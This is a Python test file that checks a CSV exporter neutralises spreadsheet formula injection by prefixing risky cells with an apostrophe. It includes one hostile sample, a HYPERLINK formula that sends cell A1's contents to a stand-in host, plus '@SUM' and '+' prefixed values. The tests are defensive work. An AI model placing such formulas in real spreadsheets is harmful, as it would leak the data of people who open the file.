"""CSV export: a cell that a spreadsheet would run as a formula opens as text."""

from __future__ import annotations

import csv

from hypothesis import given
from hypothesis import strategies as st
from tests.conftest import make_doc

from sitrep.deliver.export import FORMULA_STARTS, export_csv, spreadsheet_safe
from sitrep.store import write
from sitrep.store.db import connect

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def test_formula_cells_are_neutralised_and_the_rest_kept(tmp_path):
    engine = connect(str(tmp_path / "s.db"))
    write.add_document(engine, make_doc(HOSTILE, title="@SUM(1+1)", outlet="+Kesvar Herald"))
    write.add_document(engine, make_doc("The council said 12 tanks crossed.", title="Tanks"))
    written = {p.name: p for p in export_csv(engine, tmp_path / "csv")}
    with written["documents.csv"].open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    by_title = {r["title"]: r for r in rows}
    hostile = by_title["'@SUM(1+1)"]
    assert hostile["text"] == "'" + HOSTILE and hostile["outlet"] == "'+Kesvar Herald"
    assert by_title["Tanks"]["text"] == "The council said 12 tanks crossed."
    for row in rows:
        assert not any(v.startswith(FORMULA_STARTS) for v in row.values() if v)


@given(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none()))
def test_no_text_cell_starts_a_formula_and_numbers_stay_numbers(value):
    safe = spreadsheet_safe(value)
    if isinstance(value, str):
        assert not safe.startswith(FORMULA_STARTS)
        assert safe in (value, "'" + value)
    else:
        assert safe is value
